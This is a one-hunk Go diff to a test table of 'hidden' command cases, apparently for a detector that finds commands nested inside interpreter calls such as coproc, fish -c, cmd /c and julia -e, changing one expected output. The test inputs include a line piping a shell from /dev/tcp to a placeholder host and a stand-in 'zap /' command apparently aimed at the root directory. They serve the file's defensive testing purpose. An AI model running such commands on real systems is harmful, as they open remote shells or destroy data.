@@ -180,7 +180,7 @@ var hiddenCases = []struct{ text, want string }{
 	{"coproc sh; echo 'zap /' >&${COPROC[1]}", "?"},
 	{"sh < /dev/tcp/h/1", "?"},
 	{"fish -c 'zap /'", "?; zap /"},
-	{"cmd /c zap /", "?; zap /"},
+	{"cmd /c zap /", "zap /"},
 	{"julia -e 'run(`zap /`)'", "?"},
 	{"jshell <<< x", "?"},
 
